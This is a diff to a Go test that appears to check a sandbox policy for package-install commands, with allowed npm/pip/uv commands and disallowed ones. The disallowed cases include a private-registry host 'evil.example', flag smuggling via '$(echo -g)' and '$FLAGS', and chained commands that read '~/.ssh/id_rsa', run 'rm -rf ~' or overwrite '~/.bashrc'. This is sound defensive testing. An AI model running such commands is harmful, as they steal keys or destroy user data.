@@ -65,7 +65,7 @@ func TestDownloadsThroughAllowedHosts(t *testing.T) {
 	}
 	for _, command := range []string{
 		"npm install", "npm i", "npm ci", "npm install --save-dev @types/node", "cd web && npm install",
-		"timeout 300 npm ci", "pip install -e .", "pip install -r requirements.txt", "pip3 install requests",
+		"timeout 300 npm ci", "pip install -e .", "pip install -Ur requirements.txt", "npm install -DE left-pad", "pip install -r requirements.txt", "pip3 install requests",
 		"python -m pip install -U pip", "python3 -m pip install -e '.[dev]'", ".venv/bin/pip install -e '.[dev]'",
 		"uv sync", "uv pip install -r requirements.txt", "tox -e py311", "pip3.12 install requests",
 		"pip install -r requirements.txt && python -m pytest -q", "npm ci && npm test",
@@ -91,6 +91,9 @@ func TestDownloadsThroughAllowedHosts(t *testing.T) {
 		"pip install --index-url=https://evil.example/simple x", "pip install --extra-index-url https://e.example/simple x",
 		"pip install git+https://github.com/a/b", "pip install https://e.example/x.whl", "npm install --registry=https://r.example",
 		"npm install github:a/b#main", "uv pip install --system requests",
+		// run together, or only known at run time
+		"npm install -gf typescript", "npm i -Dg x", "pip install -Ut /opt/x requests", "pip install -qie.example/simple x",
+		"npm install $FLAGS x", "npm install $(echo -g) x", `pip install "$OPTS" requests`, "npm ci ${EXTRA}",
 		// something else beyond the boundary too
 		"npm install && curl https://example.com", "pip install x && cat ~/.ssh/id_rsa", "pip install x && rm -rf ~",
 		"sudo pip install x", "npm install && git push", "pip install x > ~/.bashrc",
